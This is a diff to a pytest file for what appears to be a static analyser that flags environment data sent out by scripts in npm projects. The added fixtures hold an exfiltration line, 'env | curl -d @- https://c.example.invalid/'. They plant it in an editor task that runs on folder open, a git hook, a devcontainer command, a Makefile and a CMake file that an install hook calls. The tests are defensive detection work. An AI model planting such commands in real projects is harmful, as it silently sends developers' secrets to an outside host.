@@ -1,6 +1,7 @@
 """Scripts for a shell that an npm package starts, or that are its programs, are followed like its hooks."""
 
 import json
+from collections.abc import Mapping
 
 import pytest
 from engine_flows import program_of
@@ -16,7 +17,7 @@ STARTS = {
 }
 
 
-def sent(files: dict[str, str], manifest: dict[str, object]) -> list[Flow]:
+def sent(files: dict[str, str], manifest: Mapping[str, object]) -> list[Flow]:
     named = {"name": "a", "version": "1.0.0", **manifest}
     program = program_of("npm", {"package.json": json.dumps(named), "index.js": "1", **files})
     return [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]
@@ -36,3 +37,46 @@ def test_a_program_for_a_shell_runs_when_it_is_called(name: str) -> None:
     assert {one.reach for one in found} == {Reach.CALL}
     assert not sent({name: HONEST}, {"bin": {"a": name}})
     assert not sent({name: TAKES}, {})
+
+
+LINE = "env | curl -d @- https://c.example.invalid/"
+
+
+def task(command: str, when: str) -> str:
+    one = {"label": "a", "type": "shell", "command": command, "runOptions": {"runOn": when}}
+    return "// what the editor runs\n" + json.dumps({"version": "2.0.0", "tasks": [one]})
+
+
+TOOLS: dict[str, dict[str, str]] = {
+    "a task of the editor": {".vscode/tasks.json": task(LINE, "folderOpen")},
+    "a hook of git": {".husky/post-checkout": f"{LINE}\n"},
+    "a container": {".devcontainer/devcontainer.json": json.dumps({"postCreateCommand": LINE})},
+}
+UNTOLD: dict[str, dict[str, str]] = {
+    "a task that somebody starts": {".vscode/tasks.json": task(LINE, "default")},
+    "a task that builds": {".vscode/tasks.json": task("npm run build", "folderOpen")},
+    "a hook that checks": {".husky/pre-commit": "npx lint-staged\n"},
+    "what nobody makes": {"Makefile": f"all:\n\t{LINE}\n"},
+}
+
+
+@pytest.mark.parametrize("way", TOOLS)
+def test_what_a_tool_runs_by_itself(way: str) -> None:
+    assert {one.reach for one in sent(TOOLS[way], {})} == {Reach.CALL}
+
+
+@pytest.mark.parametrize("way", UNTOLD)
+def test_what_no_tool_runs(way: str) -> None:
+    assert not sent(UNTOLD[way], {})
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "hook"),
+    [
+        ("Makefile", f"all:\n\t@{LINE}\n", "make"),
+        ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{LINE}")', "cmake-js compile"),
+    ],
+)
+def test_what_a_hook_makes(name: str, text: str, hook: str) -> None:
+    found = sent({name: text}, {"scripts": {"install": hook}})
+    assert {one.reach for one in found} == {Reach.INSTALL}
